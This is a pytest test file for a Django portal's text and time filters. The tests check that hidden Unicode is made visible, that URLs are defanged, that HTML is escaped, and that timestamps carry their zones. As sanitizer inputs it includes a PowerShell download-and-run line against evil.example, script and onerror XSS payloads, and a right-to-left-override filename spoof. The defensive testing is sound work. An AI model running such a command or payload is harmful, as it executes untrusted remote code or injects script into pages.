"""Foreign text on a page: nothing hides, nothing becomes a link, nothing is endless, and nothing is markup."""

import sys
import unicodedata
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.template import Context, Template
from django.utils import timezone
from django.utils.safestring import SafeString
from hypothesis import given
from hypothesis import strategies as st

from portal.templatetags.portal_text import (
    ago,
    clock,
    day_and_time,
    defanged,
    exact,
    iso,
    precise,
    shown,
    shown_lines,
    visible_lines,
)

NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("hidden", "visible"),
    [
        ("invoice\u202egpj.exe", "invoice⟨U+202E⟩gpj.exe"),
        ("\ufeffSubject", "⟨U+FEFF⟩Subject"),
        ("a\u200bb", "a⟨U+200B⟩b"),
        ("a\x00b\x1b[31m", "a⟨U+0000⟩b⟨U+001B⟩[31m"),
        ("soft\u00adhyphen", "soft⟨U+00AD⟩hyphen"),
        ("tag\U000e0041", "tag⟨U+E0041⟩"),
        ("filler\u3164", "filler⟨U+3164⟩"),
        ("one\ntwo", "one⟨U+000A⟩two"),
        ("line\u2028", "line⟨U+2028⟩"),
        ("\ud800", "⟨U+D800⟩"),
    ],
)
def test_what_hides_is_made_visible(hidden: str, visible: str) -> None:
    assert shown(hidden) == visible


@given(st.text(alphabet=st.characters(max_codepoint=sys.maxunicode), max_size=60))
def test_no_text_whatever_leaves_a_hidden_character_or_becomes_safe_markup(text: str) -> None:
    for answer in (shown(text), shown_lines(text), defanged(text), visible_lines(text, 100)):
        assert not isinstance(answer, SafeString)
        kept = [c for c in answer if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}]
        assert set(kept) <= {"\n", "\t"}
    assert "\n" not in shown(text)


def test_writing_of_people_is_left_as_it_is() -> None:
    for text in ("Käse", "日本語のファイル", "مرحبا", "Ελληνικά", "e\u0301", "👍"):
        assert shown(text) == text


def test_a_tower_of_accents_is_taken_down() -> None:
    assert shown("a" + "\u0301" * 20).count("\u0301") == 3


def test_lines_stay_in_descriptions() -> None:
    assert shown_lines("one\r\ntwo\tthree\rfour") == "one\ntwo\tthree⟨U+000D⟩four"


def test_long_text_is_cut_and_says_by_how_much() -> None:
    assert shown("x" * 1_700, 200) == "x" * 200 + " … (1,500 more characters)"
    assert len(shown("\u202e" * 3_000_000)) < 10 * 500


@pytest.mark.parametrize(
    ("sent", "harmless"),
    [
        ("https://evil.example/a.b?c=d", "hxxps://evil[.]example/a.b?c=d"),
        ("HTTP://EVIL.example", "HxxP://EVIL[.]example"),
        ("ftp://user@evil.example", "fxp://user[@]evil[.]example"),
        ("evil.example/path", "evil[.]example/path"),
        ("javascript:alert(1)", "javascript:alert(1)"),
        ("", ""),
        (None, ""),
    ],
)
def test_addresses_are_defanged(sent: str | None, harmless: str) -> None:
    assert defanged(sent) == harmless


def test_addresses_inside_text_are_defanged_too() -> None:
    assert shown("iwr http://evil.example/a.ps1 | iex") == "iwr hxxp://evil[.]example/a.ps1 | iex"


def test_the_raw_view_leaves_addresses_as_they_are() -> None:
    assert visible_lines('{"url": "http://evil.example"}\n', 100) == '{"url": "http://evil.example"}\n'


def test_markup_in_text_is_escaped_by_the_template() -> None:
    page = Template("{% load portal_text %}{{ text|shown }}{{ text|shown_lines }}{{ text|defanged }}")
    assert "<" not in page.render(Context({"text": "<script>alert(1)</script>\n<img src=x onerror=alert(1)>"}))


@pytest.mark.parametrize(
    ("seconds", "words"),
    [(-5, "0 s ago"), (0, "0 s ago"), (59, "59 s ago"), (60, "1 min ago"), (7199, "1 h ago"), (172_800, "2 d ago")],
)
def test_how_long_ago_is_said_in_the_largest_whole_unit(seconds: int, words: str) -> None:
    with time_machine.travel(NOW, tick=False):
        assert ago(NOW - timedelta(seconds=seconds)) == words


def test_exact_moments_carry_their_zone() -> None:
    assert exact(NOW) == "2026-03-02 09:00:00 UTC"
    assert iso(NOW) == "2026-03-02T09:00:00.000+00:00"
    assert (ago(None), exact(None), iso(None)) == ("never", "", "")


@pytest.mark.parametrize(
    ("zone", "words", "long"),
    [
        ("UTC", "2026-03-02 09:00:00 UTC", "2026-03-02 09:00:00 UTC"),
        (
            "Europe/Berlin",
            "2026-03-02 10:00:00 CET",
            "2026-03-02 10:00:00 (Europe/Berlin, UTC+01:00) = 2026-03-02 09:00:00 UTC",
        ),
        (
            "America/Sao_Paulo",
            "2026-03-02 06:00:00 UTC-03:00",
            "2026-03-02 06:00:00 (America/Sao_Paulo, UTC-03:00) = 2026-03-02 09:00:00 UTC",
        ),
    ],
)
def test_moments_are_written_in_the_zone_in_force(zone: str, words: str, long: str) -> None:
    with timezone.override(zone):
        assert exact(NOW) == words
        assert precise(NOW) == long
        assert clock(NOW) == words[11:]
        assert day_and_time(NOW).startswith("2 March 2026, ")
        assert iso(NOW) == "2026-03-02T09:00:00.000+00:00"
    assert (precise(None), clock(None), day_and_time(None)) == ("", "", "")
